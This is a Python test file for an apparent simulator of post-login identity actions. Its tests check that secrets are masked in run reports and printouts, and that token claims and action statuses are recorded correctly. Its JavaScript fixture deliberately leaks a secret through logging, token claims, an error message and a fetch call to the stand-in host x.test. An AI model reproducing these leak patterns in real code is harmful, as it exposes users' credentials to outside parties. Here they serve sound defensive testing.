from __future__ import annotations

import json

from studio.catalogue.events import default_event
from studio.catalogue.loader import load
from studio.cli.printout import printout
from studio.flow.execution import ActionSource, RunRequest, execute
from studio.flow.masking import STAND_IN
from studio.flow.report import run_json
from studio.tokens.keys import SigningKeys

KEYS = SigningKeys.made()
CODE = """exports.onExecutePostLogin = async (event, api) => {
  console.log('key', event.secrets.KEY, event.secrets.PIN);
  api.redirect.encodeToken({ secret: event.secrets.KEY, payload: {} });
  api.idToken.setCustomClaim('leak', event.secrets.KEY);
  await fetch('https://x.test/', { headers: { authorization: `Bearer ${event.secrets.KEY}` } }).catch(() => {});
  throw new Error(`bad ${event.secrets.KEY}`);
};
"""


def test_what_an_action_did_shows_no_secret() -> None:
    trigger = load().triggers["post-login"]
    source = ActionSource("a", "a.js", CODE, secrets={"KEY": "hush-hush-hush", "PIN": "12"})
    run = execute(RunRequest(trigger, (source,), default_event(trigger)), SigningKeys.made())
    report = run_json(run)
    assert "hush-hush" not in json.dumps(report["actions"]) and "hush-hush" not in printout(run)
    assert report["actions"][0]["console"][0]["text"] == f"key {STAND_IN} 12"
    assert run.outcome.actions[0].console[0].text == "key hush-hush-hush 12"


def test_a_claim_keeps_its_value() -> None:
    trigger = load().triggers["post-login"]
    code = "exports.onExecutePostLogin = async (e, api) => { api.idToken.setCustomClaim('leak', e.secrets.KEY); };"
    source = ActionSource("a", "a.js", code, secrets={"KEY": "hush-hush-hush"})
    run = execute(RunRequest(trigger, (source,), default_event(trigger)), SigningKeys.made())
    assert run.tokens.id_token and run.tokens.id_token.claims["leak"] == "hush-hush-hush"


def test_names_and_statuses_are_no_secrets() -> None:
    trigger = load().triggers["post-login"]
    secrets = {"A": "user", "B": "completed", "C": "metadata.app", "D": "applied"}
    code = "exports.onExecutePostLogin = async (e, api) => { api.user.setAppMetadata('k', 1); };"
    run = execute(RunRequest(trigger, (ActionSource("user", "a.js", code, secrets),), default_event(trigger)), KEYS)
    action = run_json(run)["actions"][0]
    assert (action["name"], action["status"]) == ("user", "completed")
    assert (action["calls"][0]["method"], action["calls"][0]["effect"]) == ("api.user.setAppMetadata", "applied")
